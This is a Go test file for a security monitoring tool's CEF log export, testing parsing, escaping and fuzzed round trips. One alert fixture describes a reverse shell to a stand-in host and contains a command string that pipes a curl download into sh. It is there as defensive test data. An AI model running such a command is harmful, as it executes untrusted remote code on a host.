package export

import (
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// splitUnescaped splits s at the sep bytes not escaped by a backslash.
func splitUnescaped(s string, sep byte) []string { return splitUnescapedN(s, sep, -1) }

// splitUnescapedN splits at most n-1 times (n < 0: no limit).
func splitUnescapedN(s string, sep byte, n int) []string {
	var out []string
	start := 0
	for i := 0; i < len(s); i++ {
		if n > 0 && len(out) == n-1 {
			break
		}
		switch s[i] {
		case '\\':
			i++
		case sep:
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	return append(out, s[start:])
}

func unescapeHeader(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

var cefKey = regexp.MustCompile(`^[A-Za-z0-9]+$`)

// parseCEF reads a CEF line back the way a SIEM would: 7 unescaped pipes,
// then key=value pairs where a value runs to the next " key=" whose = is
// not escaped.
func parseCEF(t *testing.T, line string) (header []string, ext map[string]string) {
	t.Helper()
	parts := splitUnescapedN(line, '|', 8)
	if len(parts) != 8 || strings.Count(strings.Join(parts[:7], ""), "|") != strings.Count(strings.Join(parts[:7], ""), `\|`) {
		t.Fatalf("CEF line has %d header fields, want 8: %q", len(parts), line)
	}
	for i := range parts[:7] {
		header = append(header, unescapeHeader(parts[i]))
	}
	ext = map[string]string{}
	rest := parts[7]
	// Positions of unescaped '='.
	var eqs []int
	for i := 0; i < len(rest); i++ {
		if rest[i] == '\\' {
			i++
			continue
		}
		if rest[i] == '=' {
			eqs = append(eqs, i)
		}
	}
	keyStart := func(eq int) int {
		k := strings.LastIndexByte(rest[:eq], ' ')
		return k + 1
	}
	for n, eq := range eqs {
		ks := keyStart(eq)
		key := rest[ks:eq]
		if !cefKey.MatchString(key) {
			t.Fatalf("bad extension key %q in %q", key, rest)
		}
		end := len(rest)
		if n+1 < len(eqs) {
			end = keyStart(eqs[n+1]) - 1
		}
		ext[key] = cefUnescapeValue(rest[eq+1 : end])
	}
	return header, ext
}

func TestCEFAlert(t *testing.T) {
	it := testItems(t)[0]
	line := CEF(it)
	if strings.ContainsAny(line, "\n\r") {
		t.Fatalf("raw newline in CEF line %q", line)
	}
	h, ext := parseCEF(t, line)
	if h[0] != "CEF:0" || h[1] != "Vigil" || h[2] != "Vigil" || h[4] != "Reverse shell | outbound" || h[5] != "Reverse shell | outbound" || h[6] != "8" {
		t.Errorf("header = %q", h)
	}
	want := map[string]string{
		"rt": strconv.FormatInt(t0.UnixMilli(), 10), "externalId": "01J-alert-1", "dvchost": "node-1",
		"src": "172.17.0.2", "spt": "40000", "dst": "203.0.113.9", "dpt": "4444", "dhost": "evil.example", "proto": "tcp",
		"suser": "root", "suid": "0", "sproc": "sh", "spid": "4242",
		"cs1Label": "rule", "cs1": "Reverse shell | outbound", "cs2Label": "container", "cs2": "web",
		"cs3Label": "mitreTechnique", "cs3": "T1059.004", "cs4Label": "image", "cs4": "nginx:1.25",
		"cs5": "sh -c curl http://x|sh; a=b \\ c", "cs6": "prod", "cnt": "3", "act": "freeze: done",
		"msg": "Reverse shell a=b | c\nsecond line (proc=sh)",
	}
	for k, v := range want {
		if ext[k] != v {
			t.Errorf("extension %s = %q, want %q", k, ext[k], v)
		}
	}
}

func TestCEFOtherKinds(t *testing.T) {
	items := testItems(t)
	for _, tc := range []struct {
		it        *Item
		sig, sev  string
		key, want string
	}{
		{items[1], "response:freeze", "3", "act", "freeze"},
		{items[2], "CVE-2024-1234", "10", "flexString2", "openssl@3.0.1"},
		{items[3], "GHSA-xxxx-yyyy-zzzz", "5", "flexString1", "GHSA-xxxx-yyyy-zzzz"},
		{items[4], "CIS Docker 1.6:5.4", "6", "outcome", "fail"},
	} {
		h, ext := parseCEF(t, CEF(tc.it))
		if h[4] != tc.sig || h[6] != tc.sev || ext[tc.key] != tc.want {
			t.Errorf("%s: header %q ext %s=%q; want sig %q sev %s %s=%q", tc.it.Kind, h, tc.key, ext[tc.key], tc.sig, tc.sev, tc.key, tc.want)
		}
	}
}

// FuzzCEFEscape: whatever a header field or extension value holds, the
// escaped form has no unescaped | (header) or = (value) nor a raw newline,
// and reads back to the original (header newlines become spaces).
func FuzzCEFEscape(f *testing.F) {
	for _, s := range []string{"", "a|b", `a\b`, "a=b", "line1\nline2\r", `\|\=\\`, "|||", "=", "\\", "ünï|cødé=", "\xff|="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			s = strings.ToValidUTF8(s, "\uFFFD")
		}
		var h strings.Builder
		cefHeader(&h, s)
		hs := h.String()
		if parts := splitUnescaped(hs, '|'); len(parts) != 1 {
			t.Fatalf("header %q escaped to %q with an unescaped |", s, hs)
		}
		if strings.ContainsAny(hs, "\r\n") {
			t.Fatalf("header %q escaped to %q with a newline", s, hs)
		}
		if got, want := unescapeHeader(hs), strings.NewReplacer("\r", " ", "\n", " ").Replace(s); got != want {
			t.Fatalf("header round trip %q -> %q -> %q", s, hs, got)
		}
		var v strings.Builder
		cefValue(&v, s)
		vs := v.String()
		if parts := splitUnescaped(vs, '='); len(parts) != 1 {
			t.Fatalf("value %q escaped to %q with an unescaped =", s, vs)
		}
		if strings.ContainsAny(vs, "\r\n") {
			t.Fatalf("value %q escaped to %q with a newline", s, vs)
		}
		if got := cefUnescapeValue(vs); got != s {
			t.Fatalf("value round trip %q -> %q -> %q", s, vs, got)
		}
		// And inside a whole line: the value comes back as one extension.
		line := "CEF:0|V|P|1|sig|name|5|msg=" + vs + " cs1=x"
		parts := splitUnescapedN(line, '|', 8)
		if len(parts) != 8 || parts[7] != "msg="+vs+" cs1=x" {
			t.Fatalf("line %q has %d fields", line, len(parts))
		}
		if _, ext := parseCEF(t, line); ext["msg"] != s || ext["cs1"] != "x" {
			t.Fatalf("line %q reads back msg=%q cs1=%q, want %q, x", line, ext["msg"], ext["cs1"], s)
		}
	})
}
